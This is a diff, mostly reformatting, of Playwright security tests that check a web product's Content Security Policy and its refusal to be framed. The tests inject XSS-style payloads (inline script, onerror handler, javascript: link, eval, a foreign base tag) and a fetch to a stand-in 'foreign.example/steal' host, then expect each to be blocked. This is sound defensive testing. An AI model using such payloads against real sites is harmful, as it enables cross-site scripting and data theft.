@@ -15,18 +15,26 @@ declare global {
 async function listen(context: BrowserContext): Promise<void> {
   await context.addInitScript(() => {
     window.violations = [];
-    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => window.violations.push(`${violatedDirective} ${blockedURI}`));
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
+      window.violations.push(`${violatedDirective} ${blockedURI}`),
+    );
   });
 }
 
-test('no screen of the product breaks its own policy, or asks anybody else for anything [BEY-100]', async ({ agent, context, newCustomer, server }) => {
+test('no screen of the product breaks its own policy, or asks anybody else for anything [BEY-100]', async ({
+  agent,
+  context,
+  newCustomer,
+  server,
+}) => {
   const strangers = new Set<string>();
   context.on('request', (request) => {
     const url = new URL(request.url());
     if (url.protocol !== 'blob:' && url.origin !== server.origin) strangers.add(request.url());
   });
   await listen(context);
-  const expectClean = async (where: string): Promise<void> => expect(await agent.page.evaluate(() => window.violations), where).toEqual([]);
+  const expectClean = async (where: string): Promise<void> =>
+    expect(await agent.page.evaluate(() => window.violations), where).toEqual([]);
   for (const path of ['/login', '/tab-disabled', '/lost-connection', '/unsupported-browser', '/']) {
     await agent.open(path);
     await expect(agent.page.getByRole('heading', { level: 1 })).toBeVisible();
@@ -74,7 +82,10 @@ const doors = [
 ] as const;
 
 for (const { name, path } of doors) {
-  test(`${name} runs no inline script, no handler, no evaluated text and nothing from elsewhere [BEY-100]`, async ({ browser, server }) => {
+  test(`${name} runs no inline script, no handler, no evaluated text and nothing from elsewhere [BEY-100]`, async ({
+    browser,
+    server,
+  }) => {
     const context = await browser.newContext();
     const page = await intruder(context, server.origin, path);
     await page.evaluate(() => {
@@ -82,7 +93,8 @@ for (const { name, path } of doors) {
       script.textContent = "window.ran = 'script'";
       document.body.append(script);
       const picture = document.createElement('div');
-      picture.innerHTML = '<img src="/nothing.png" onerror="window.ran = \'handler\'"><a href="javascript:window.ran=\'link\'">x</a><style>body { display: none }</style>';
+      picture.innerHTML =
+        '<img src="/nothing.png" onerror="window.ran = \'handler\'"><a href="javascript:window.ran=\'link\'">x</a><style>body { display: none }</style>';
       document.body.append(picture);
       picture.querySelector('a')?.click();
       // As text to a timer it would be evaluated.
@@ -95,9 +107,18 @@ for (const { name, path } of doors) {
       document.head.append(base);
       void fetch('https://foreign.example/steal').catch(() => undefined);
     });
-    const broken = ['script-src-elem inline', 'script-src-attr inline', 'style-src-elem inline', 'script-src eval', 'script-src-elem https://foreign.example/x.js', 'base-uri https://foreign.example', 'connect-src https://foreign.example/steal'];
+    const broken = [
+      'script-src-elem inline',
+      'script-src-attr inline',
+      'style-src-elem inline',
+      'script-src eval',
+      'script-src-elem https://foreign.example/x.js',
+      'base-uri https://foreign.example',
+      'connect-src https://foreign.example/steal',
+    ];
     const seen = (): Promise<string[]> => page.evaluate(() => window.violations);
-    for (const violation of broken) await expect.poll(seen, violation).toContainEqual(expect.stringContaining(violation));
+    for (const violation of broken)
+      await expect.poll(seen, violation).toContainEqual(expect.stringContaining(violation));
     expect(await page.evaluate(() => window.ran)).toBeUndefined();
     expect(await page.evaluate(() => document.baseURI)).toContain(server.origin);
     expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
@@ -105,7 +126,11 @@ for (const { name, path } of doors) {
   });
 
   test(`${name} stands in no frame [BEY-100]`, async ({ browser, server }) => {
-    const foreign = createServer((_request, response) => response.setHeader('content-type', 'text/html').end(`<!doctype html><title>Moldura</title><iframe src="${server.origin}${path}"></iframe>`));
+    const foreign = createServer((_request, response) =>
+      response
+        .setHeader('content-type', 'text/html')
+        .end(`<!doctype html><title>Moldura</title><iframe src="${server.origin}${path}"></iframe>`),
+    );
     await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
     const context = await browser.newContext();
     const page = await context.newPage();
@@ -113,14 +138,27 @@ for (const { name, path } of doors) {
     await page.goto(`http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`);
     await refused;
     // The refusal is told before its page stands in the frame.
-    await expect.poll(() => page.frames().find((candidate) => candidate.parentFrame() !== null)?.url()).toMatch(/^chrome-error:/);
+    await expect
+      .poll(() =>
+        page
+          .frames()
+          .find((candidate) => candidate.parentFrame() !== null)
+          ?.url(),
+      )
+      .toMatch(/^chrome-error:/);
     await context.close();
     await new Promise((resolve) => foreign.close(resolve));
   });
 }
 
-test('an engine that does not know the new word compiles the module, and still runs nothing inline [BEY-100]', async ({ browser, server }) => {
-  const context = await browser.newContext({ userAgent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36' });
+test('an engine that does not know the new word compiles the module, and still runs nothing inline [BEY-100]', async ({
+  browser,
+  server,
+}) => {
+  const context = await browser.newContext({
+    userAgent:
+      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36',
+  });
   const agent = new Agent(await intruder(context, server.origin, '/new-agent/'));
   await agent.signIn();
   await agent.page.evaluate(() => {
